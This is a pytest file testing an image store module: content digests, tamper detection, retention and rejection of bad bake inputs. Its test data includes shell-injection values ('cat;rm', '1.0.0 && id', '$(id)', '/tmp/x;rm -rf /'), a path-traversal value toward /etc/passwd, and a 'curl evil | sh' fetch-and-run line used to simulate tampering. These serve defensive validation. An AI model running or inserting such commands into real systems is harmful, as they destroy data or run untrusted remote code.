"""Image store: digests, tamper verification, immutability, retention and input checks.

Bundles here are written by hand (real files, no Packer); real bakes are in tests/pytest/test_image_bake.py."""
import json
import os
import pathlib
import stat

import pytest

from ansible_collections.phoenix.deploy.plugins.module_utils import images

ROOT = pathlib.Path(__file__).resolve().parents[4]
SOURCE = ROOT / "examples" / "catalog"


def make_rootfs(path, files=None):
    files = files or {"opt/app/run": ("#!/bin/sh\necho hi\n", 0o755), "etc/app.json": ("{}\n", 0o644)}
    for rel, (text, mode) in files.items():
        p = path / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)
        p.chmod(mode)
    return path


def make_image(store_root, name, artifact="catalog", created_at="2025-01-01T00:00:00Z", input_digest="sha256:x",
               target="local", files=None, version=None):
    """Write a bundle the way the engine does: rootfs made read-only, then image.json with the content digest."""
    path = pathlib.Path(store_root) / target / artifact / name
    make_rootfs(path / "rootfs", files)
    images._make_read_only(str(path / "rootfs"))
    digest = images.content_digest(str(path / "rootfs"))
    if version is None:  # catalog-v1-0-3 -> 1.0.3
        version = ".".join(name[len(artifact) + 2:].split("-")[:3])
    doc = {"schema": 1, "name": name, "artifact": artifact, "version": version, "target": target,
           "input_digest": input_digest, "content_digest": digest, "content_scheme": 2, "id": digest,
           "created_at": created_at}
    (path / "image.json").write_text(json.dumps(doc))
    images._make_read_only(str(path))
    return path, doc


@pytest.fixture
def store(tmp_path):
    yield tmp_path / "store"
    images._make_writable(str(tmp_path))  # read-only bundles: let pytest remove tmp_path


# --- digests -----------------------------------------------------------------

def test_content_digest_is_about_content_not_metadata(tmp_path):
    a = make_rootfs(tmp_path / "a")
    b = make_rootfs(tmp_path / "b")
    os.utime(b / "etc/app.json", (1, 1))  # timestamps are not content
    assert images.content_digest(str(a)) == images.content_digest(str(b))
    assert images.content_digest(str(a)).startswith("sha256:")


@pytest.mark.parametrize("change", ["content", "exec_bit", "new_file", "symlink", "rename", "write_bit",
                                    "dir_mode"])
def test_content_digest_sees_changes(tmp_path, change):
    root = make_rootfs(tmp_path / "r")
    before = images.content_digest(str(root))
    if change == "content":
        (root / "etc/app.json").write_text('{"x": 1}\n')
    elif change == "exec_bit":
        (root / "etc/app.json").chmod(0o755)
    elif change == "new_file":
        (root / "etc/extra").write_text("")
    elif change == "write_bit":  # modes are content (scheme 2)
        (root / "etc/app.json").chmod(0o444)
    elif change == "dir_mode":
        (root / "etc").chmod(0o700)
    elif change == "symlink":
        (root / "etc/link").symlink_to("app.json")
    else:
        (root / "etc/app.json").rename(root / "etc/app2.json")
    assert images.content_digest(str(root)) != before


def test_input_digest_covers_source_and_params_but_not_caches(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    (src / "catalog.py").write_text("print('v1')\n")
    params = {"artifact": "catalog", "vars": {"fault": "{}"}}
    d1 = images.input_digest(str(ROOT), str(src), params)
    (src / "__pycache__").mkdir()
    (src / "__pycache__" / "catalog.cpython-311.pyc").write_bytes(b"\0")
    assert images.input_digest(str(ROOT), str(src), params) == d1
    assert images.input_digest(str(ROOT), str(src), dict(params, vars={"fault": '{"error_rate": 0.5}'})) != d1
    (src / "catalog.py").write_text("print('v2')\n")
    assert images.input_digest(str(ROOT), str(src), params) != d1


# --- verification ------------------------------------------------------------

def test_verify_image_accepts_an_intact_bundle(store):
    path, doc = make_image(store, "catalog-v1-0-0")
    got = images.verify_image(str(path), expected_digest=doc["content_digest"])
    assert got["content_digest"] == doc["content_digest"]
    assert not os.access(path / "rootfs" / "etc" / "app.json", os.W_OK) or os.geteuid() == 0
    assert stat.S_IMODE((path / "rootfs" / "etc" / "app.json").stat().st_mode) & 0o222 == 0


@pytest.mark.parametrize("tamper", ["edit", "add", "remove", "chmod_x"])
def test_verify_image_refuses_a_tampered_bundle(store, tamper):
    path, _digest = make_image(store, "catalog-v1-0-0")
    images._make_writable(str(path))
    f = path / "rootfs" / "etc" / "app.json"
    if tamper == "edit":
        f.write_text('{"evil": true}\n')
    elif tamper == "add":
        (path / "rootfs" / "etc" / "backdoor").write_text("x")
    elif tamper == "remove":
        f.unlink()
    else:
        f.chmod(0o755)
    with pytest.raises(images.TamperError, match="modified after baking"):
        images.verify_image(str(path))


def test_verify_image_refuses_renamed_bundle_missing_json_and_wrong_digest(store):
    path, _digest = make_image(store, "catalog-v1-0-0")
    path.chmod(0o755)  # the bundle dir, not rootfs: its modes are not content
    with pytest.raises(images.TamperError, match="expected sha256:other"):
        images.verify_image(str(path), expected_digest="sha256:other")
    renamed = path.with_name("catalog-v2-0-0")
    path.rename(renamed)
    with pytest.raises(images.TamperError, match="renamed"):
        images.verify_image(str(renamed))
    (renamed / "image.json").unlink()
    with pytest.raises(images.TamperError, match="not an image bundle"):
        images.verify_image(str(renamed))


# --- retention ---------------------------------------------------------------

def test_retention_keeps_newest_n_plus_live(store):
    for i in range(1, 6):
        make_image(store, "catalog-v1-0-%d" % i, created_at="2025-01-0%dT00:00:00Z" % i,
                   files={"f": ("%d" % i, 0o644)})
    s = images.ImageStore(str(store))
    live_digest = s.get("local", "catalog", "catalog-v1-0-2")["content_digest"]
    kept, removed = s.retention_plan("local", "catalog", 2, live=["catalog-v1-0-1", live_digest])
    assert [d["name"] for d in kept] == ["catalog-v1-0-5", "catalog-v1-0-4", "catalog-v1-0-2", "catalog-v1-0-1"]
    assert [d["name"] for d in removed] == ["catalog-v1-0-3"]

    assert [d["name"] for d in s.cleanup("local", "catalog", 1, check_mode=True)] == [
        "catalog-v1-0-4", "catalog-v1-0-3", "catalog-v1-0-2", "catalog-v1-0-1"]
    assert len(s.images("local", "catalog")) == 5  # check mode removed nothing

    removed = s.cleanup("local", "catalog", 1, live=["catalog-v1-0-1"], protect=["catalog-v1-0-3"])
    assert sorted(d["name"] for d in removed) == ["catalog-v1-0-2", "catalog-v1-0-4"]
    assert sorted(d["name"] for d in s.images("local", "catalog")) == [
        "catalog-v1-0-1", "catalog-v1-0-3", "catalog-v1-0-5"]
    assert not (store / "local" / "catalog" / "catalog-v1-0-2").exists()


def test_retention_refuses_negative_keep(store):
    with pytest.raises(images.ImageError, match="retain must be 0 or more"):
        images.ImageStore(str(store)).retention_plan("local", "catalog", -1)


# --- requests: bad input names the option, writes nothing ----------------------

def request(store_dir, **kw):
    args = dict(artifact="catalog", version="1.0.0+34e57f0.b1", source=str(SOURCE), store=str(store_dir),
                project_dir=str(ROOT))
    args.update(kw)
    return images.BakeRequest(**args)


@pytest.mark.parametrize("kw, option, match", [
    ({"artifact": "../catalog"}, "artifact", "not allowed"),
    ({"artifact": "cat alog"}, "artifact", "not allowed"),
    ({"artifact": "cat;rm"}, "artifact", "not allowed"),
    ({"artifact": "a/b"}, "artifact", "not allowed"),
    ({"version": "latest"}, "version", "mutable tag"),
    ({"version": "1.0"}, "version", "not semver"),
    ({"version": "1.0.0/../x"}, "version", "not semver"),
    ({"version": "1.0.0 && id"}, "version", "not semver"),
    ({"target": "aws"}, "target", "use one of: gce, local"),
    ({"source": None}, "source", "source is required"),
    ({"source": "/nonexistent/catalog"}, "source", "not a directory"),
    ({"source": str(SOURCE) + "'$(id)"}, "source", "shell metacharacters"),
    ({"store": "/tmp/x;rm -rf /"}, "store", "shell metacharacters"),
    ({"variables": {"image_root": "/"}}, "vars", "set by image_bake itself"),
    ({"variables": {"nope": "1"}}, "vars", "not a variable of"),
    ({"variables": {"Bad-Key": "1"}}, "vars", "not allowed"),
    ({"variables": {"fault": {"error_rate": 2}}}, "vars", "error_rate must be a number from 0 to 1"),
    ({"variables": {"fault": {"explode": True}}}, "vars", "fault must be a mapping with keys"),
    ({"variables": {"zone": "a\nb"}}, "vars", "single line"),
    ({"target": "gce"}, "vars", "project_id"),
    ({"source": str(ROOT / "roles")}, "source", "has no catalog.py"),
    ({"variables": {"entrypoint": "../../etc/passwd"}}, "vars", "no '..'"),
    ({"project_dir": "/nonexistent"}, "project_dir", "has no packer/image.pkr.hcl"),
])
def test_bad_input_names_the_option_and_writes_nothing(tmp_path, kw, option, match):
    store = tmp_path / "store"
    with pytest.raises(images.ImageError, match=match) as err:
        request(store, **kw)
    assert err.value.option == option
    assert not store.exists()


def test_request_is_deterministic(tmp_path):
    a = request(tmp_path / "s", variables={"fault": {"latency_ms": 800}, "python": "/usr/bin/python3"})
    b = request(tmp_path / "s", variables={"python": "/usr/bin/python3", "fault": '{"latency_ms": 800}'})
    assert a.input_digest == b.input_digest
    assert a.name == "catalog-v1-0-0--34e57f0-b1"
    assert (a.git_hash, a.build_id) == ("34e57f0", "1")
    c = request(tmp_path / "s", variables={"fault": {"latency_ms": 801}, "python": "/usr/bin/python3"})
    assert c.input_digest != a.input_digest


# --- bake(): cache hit, immutability, tamper (no Packer needed for these paths) ---

def test_cache_hit_runs_no_packer_and_is_fast(store):
    req = request(store)
    path, doc = make_image(store, req.name, input_digest=req.input_digest, version=str(req.version))
    result = images.bake(req)
    assert result["cache_hit"] is True and result["changed"] is False and result["packer_ran"] is False
    assert result["image"]["id"] == doc["content_digest"] and result["image"]["path"] == str(path)
    assert result["duration"] < 1.0


def test_check_mode_predicts_a_bake_and_writes_nothing(tmp_path):
    store = tmp_path / "store"
    result = images.bake(request(store), check_mode=True)
    assert result["changed"] is True and result["cache_hit"] is False and result["packer_ran"] is False
    assert not store.exists()


def test_same_name_other_inputs_is_an_immutability_error(store):
    req = request(store)
    make_image(store, req.name, input_digest="sha256:something-else", version=str(req.version))
    with pytest.raises(images.ImmutabilityError, match="never points at other content") as err:
        images.bake(request(store, variables={"fault": {"error_rate": 0.5}}))
    assert err.value.option == "version"
    with pytest.raises(images.ImmutabilityError):
        images.bake(request(store, force=True))  # force never overrides immutability


def test_tampered_cache_entry_is_refused(store):
    req = request(store)
    path, _digest = make_image(store, req.name, input_digest=req.input_digest, version=str(req.version))
    images._make_writable(str(path))
    (path / "rootfs" / "opt" / "app" / "run").write_text("#!/bin/sh\ncurl evil | sh\n")
    with pytest.raises(images.TamperError, match="modified after baking"):
        images.bake(req)


def test_default_store_follows_state_dir(monkeypatch, tmp_path):
    monkeypatch.setenv("PHOENIX_STATE_DIR", str(tmp_path))
    assert images.default_store() == str(tmp_path / "images")
    monkeypatch.delenv("PHOENIX_STATE_DIR")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "xdg"))
    assert images.default_store() == str(tmp_path / "xdg" / "phoenix" / "images")
